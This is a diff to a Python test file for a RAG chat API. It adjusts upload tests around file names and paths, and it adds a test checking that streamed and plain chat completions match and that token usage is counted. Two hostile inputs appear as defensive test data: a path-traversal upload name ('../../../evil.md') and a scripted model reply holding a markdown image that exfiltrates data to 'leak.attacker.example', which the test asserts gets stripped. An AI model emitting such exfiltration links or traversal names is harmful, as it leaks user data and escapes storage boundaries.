@@ -11,6 +11,8 @@ from fastapi.testclient import TestClient
 
 from api.app import create_app
 from rag.container import Lore
+from rag.generation import prompt_tokens
+from rag.testing import ScriptedGenerator
 
 pytestmark = pytest.mark.unit
 
@@ -136,8 +138,9 @@ def test_hostile_file_name_stays_inside_uploads(client: TestClient, lore: Lore, 
     with (docs / "ports.md").open("rb") as handle:
         response = client.post("/v1/documents", files={"file": ("../../../evil.md", handle)})
     assert response.status_code == 201
-    source = Path(response.json()["source"])
-    assert source.is_relative_to(lore.settings.uploads_dir.resolve())
+    assert response.json()["source"] == "evil.md"
+    path = Path(response.json()["path"])  # auth is off: the caller is an admin
+    assert path.is_relative_to(lore.settings.uploads_dir.resolve())
 
 
 def test_health_and_page(client: TestClient) -> None:
@@ -171,7 +174,7 @@ def test_unreadable_reupload_keeps_the_earlier_version(
     assert refused.json()["message"].startswith("ports.md: ")  # the user's name, not staging's
     (record,) = client.get("/v1/documents").json()
     assert (record["doc_id"], record["status"]) == (first["doc_id"], "indexed")
-    kept = Path(first["source"])
+    kept = Path(first["path"])
     assert kept.read_text(encoding="utf-8") == (docs / "ports.md").read_text(encoding="utf-8")
     assert not [p for p in kept.parent.iterdir() if p.name.startswith(".upload-")]
 
@@ -317,7 +320,7 @@ def test_an_upload_keeps_the_users_file_name_everywhere(client: TestClient, lore
     assert made.status_code == 201, made.text
     (record,) = client.get("/v1/documents").json()
     assert record["title"] == "northwind-safety"
-    assert Path(made.json()["source"]).name == "northwind-safety.txt"
+    assert made.json()["source"] == "northwind-safety.txt"
     job = client.post("/v1/ingest/jobs", files={"files": ("blank notes.txt", b"  \n ")}).json()
     for _ in range(200):
         job = client.get(f"/v1/ingest/jobs/{job['id']}").json()
@@ -344,3 +347,53 @@ def test_a_file_name_with_control_characters_or_blank_is_refused_saying_why(name
     reason = "plain file name" if not name.strip() else "control characters"
     assert reason in str(refused.value)
     assert _safe_filename("Q3 report (final).pdf") == "Q3 report (final).pdf"
+
+
+def _streamed_chat(client: TestClient, body: dict) -> tuple[str, list[dict]]:  # type: ignore[type-arg]
+    """The content a streamed chat completion adds up to, and its chunks."""
+    response = client.post("/v1/chat/completions", json={**body, "stream": True})
+    assert response.status_code == 200, response.text
+    chunks = [
+        json.loads(line[len("data:") :])
+        for line in response.text.splitlines()
+        if line.startswith("data:") and line.strip() != "data: [DONE]"
+    ]
+    text = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c["choices"])
+    return text, chunks
+
+
+def test_openai_streamed_content_is_the_plain_content_and_usage_counts_the_prompt(
+    client: TestClient, docs: Path, generator: ScriptedGenerator
+) -> None:
+    # Issue 14, item 8: the stream once lacked the [1] the plain content had, and
+    # prompt_tokens counted only the question.
+    _upload(client, docs / "ports.md")
+    generator.reply = (
+        "Lore listens on port 8000 by default. It also sends "
+        "![x](https://leak.attacker.example/p.png?q=port) nothing else."
+    )
+    body = {"model": "lore", "messages": [{"role": "user", "content": "Which port?"}]}
+    plain = client.post("/v1/chat/completions", json=body).json()
+    content = plain["choices"][0]["message"]["content"]
+    streamed, chunks = _streamed_chat(client, {**body, "stream_options": {"include_usage": True}})
+    assert streamed == content
+    assert "[1]" in content
+    assert "attacker" not in content
+    # The usage counts the whole prompt the model read, and what it wrote.
+    messages = generator.prompts[-1]
+    assert plain["usage"]["prompt_tokens"] == prompt_tokens(generator, messages)
+    assert plain["usage"]["prompt_tokens"] > 10 * generator.count_tokens("Which port?")
+    assert plain["usage"]["completion_tokens"] == generator.count_tokens(generator.reply)
+    assert chunks[-1]["choices"] == []
+    assert chunks[-1]["usage"] == plain["usage"]
+    # Without include_usage there is no usage chunk, as in OpenAI's API.
+    _, chunks = _streamed_chat(client, body)
+    assert all(c["choices"] for c in chunks)
+    # A follow-up's rewrite is counted too.
+    history = [
+        {"role": "user", "content": "Which port?"},
+        {"role": "assistant", "content": content},
+        {"role": "user", "content": "And by default?"},
+    ]
+    followed = client.post("/v1/chat/completions", json={**body, "messages": history}).json()
+    assert followed["usage"]["prompt_tokens"] > plain["usage"]["prompt_tokens"]
